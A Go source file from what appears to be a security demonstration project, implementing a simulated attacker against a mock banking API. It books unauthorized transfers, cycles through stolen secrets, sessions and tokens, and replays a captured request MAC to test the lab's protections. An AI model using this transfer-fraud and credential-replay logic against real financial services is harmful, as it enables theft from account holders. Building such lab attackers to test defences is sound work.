package attack

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"slices"

	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

// Pittance is what a robbery takes: 1.00, in minor units.
const Pittance = 100

// Account is an account as the API shows it.
type Account struct {
	ID       string `json:"id"`
	Balance  int64  `json:"balance"`
	Currency string `json:"currency"`
	Frozen   bool   `json:"frozen"`
}

// SomeAccount is somebody's account number, as it stands on every invoice.
const SomeAccount = catalog.BobAccount

// Robbery is what to book, given the list of accounts that the API shows: from the
// account of somebody else that has the most in it to the attacker's own. An attacker who
// is shown nobody else's account pays from their own, to somebody.
func (g *Given) Robbery(body []byte) (from Account, to string, err error) {
	var list struct {
		Accounts []Account `json:"accounts"`
	}
	if err := json.Unmarshal(body, &list); err != nil {
		return Account{}, "", fmt.Errorf("read the list of accounts: %w", err)
	}
	var own Account
	for _, a := range list.Accounts {
		switch {
		case a.ID == g.Account:
			own = a
		case !a.Frozen && a.Balance > from.Balance:
			from = a
		}
	}
	switch {
	case from.ID != "":
		return from, g.Account, nil
	case own.ID != "" && g.User != "":
		return own, SomeAccount, nil
	}
	return Account{}, "", errors.New("there is no account to take money from")
}

// Rob books a small transfer.
func (p *Program) Rob(ctx context.Context) error {
	if err := p.Enter(ctx); err != nil {
		return err
	}
	list, err := p.Call(ctx, protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return err
	}
	from, to, err := p.g.Robbery(list.Body)
	if err != nil {
		return err
	}
	if err := p.Book(ctx, from, to); err != nil {
		return err
	}
	p.g.Say("Booked a transfer from %s to %s with a program that is not the app.", from.ID, to)
	return nil
}

// Book books a small transfer between two accounts.
func (p *Program) Book(ctx context.Context, from Account, to string) error {
	body, err := json.Marshal(map[string]any{
		"from": from.ID, "to": to, "amount": Pittance, "currency": from.Currency, "reference": p.g.Reference,
	})
	if err != nil {
		return err
	}
	_, err = p.Call(ctx, protect.Call{Method: http.MethodPost, Path: "/v1/transfers", Body: body})
	return err
}

// RobAs robs with the first of the identities that gets through, and says what
// stopped the last one where none does.
func RobAs(ctx context.Context, g *Given, identities []protect.Identity) (Result, error) {
	err, tried := errors.New("there is nothing to try"), []string{}
	for _, as := range identities {
		tried = append(tried, Stolen(as)...)
		var p *Program
		if p, err = NewProgram(g, as); err != nil {
			return Result{}, err
		}
		err = p.Rob(ctx)
		if err == nil {
			err = g.SpendLoot(ctx, p.Use)
			p.Close()
			return Result{Claim: true, Stolen: tried}, err
		}
		p.Close()
		var r *Refusal
		if !errors.As(err, &r) {
			return Result{}, err
		}
		g.Say("Tried %s: %s.", describe(as), r.Obstacle)
	}
	result, err := Stopped(err)
	result.Stolen = tried
	return result, err
}

// Stolen is what of an identity was taken from somebody: what stands for the user, and what
// proves the app, which is its ID where it has no secret.
func Stolen(as protect.Identity) []string {
	proof := cmp.Or(as.Proof, as.Secret, as.ClientID)
	return slices.DeleteFunc([]string{proof, string(as.Session), as.Token, as.Refresh}, func(text string) bool { return text == "" })
}

// describe says what is in an identity without giving it away.
func describe(as protect.Identity) string {
	text := "no client ID"
	if as.ClientID != "" {
		text = "the client ID " + as.ClientID
	}
	if as.Secret != "" {
		text += " with the secret " + loot.Fingerprint(as.Secret)
	}
	if as.Certificate != nil {
		text += " with a client certificate"
	}
	if as.Session != "" {
		text += " and a session key"
	}
	if as.Token != "" {
		text += " and an access token"
	}
	if as.Refresh != "" {
		text += " and a refresh token"
	}
	return text
}

// AnAccount is an account number such as stands on every invoice.
var AnAccount = Account{ID: catalog.AliceAccount, Currency: "EUR"}

// BreakIn robs somebody with made-up credentials. Reading may be guarded better than
// writing, so that is tried on its own.
func (g *Given) BreakIn(ctx context.Context, as protect.Identity) error {
	p, err := NewProgram(g, as)
	if err != nil {
		return err
	}
	defer p.Close()
	err = p.Rob(ctx)
	var refused *Refusal
	if errors.As(err, &refused) {
		err = p.Book(ctx, AnAccount, g.Account)
	}
	return err
}

// RobUnder robs somebody with the MAC of a call that was heard, in the name of the app and
// user that made it. The secret that MACs are made with does not travel, so the attacker
// has no other MAC, and this one was made for another call.
func (g *Given) RobUnder(ctx context.Context, heard *loot.Loot) (Result, error) {
	g.Say("The calls are signed, and the secret does not come with them. Put the MAC of one on calls of our own.")
	latest := heard.Secrets.Signed[len(heard.Secrets.Signed)-1]
	as := protect.Identity{Proof: latest.Field}
	if len(heard.Installations) > 0 {
		as.Device = heard.Installations[0]
	}
	if len(heard.Sessions) > 0 {
		as.Session = heard.Sessions[0]
	}
	result, err := Result{Claim: true}, g.BreakIn(ctx, as)
	if err != nil {
		result, err = Stopped(err)
	}
	result.Stolen = Stolen(as)
	return result, err
}
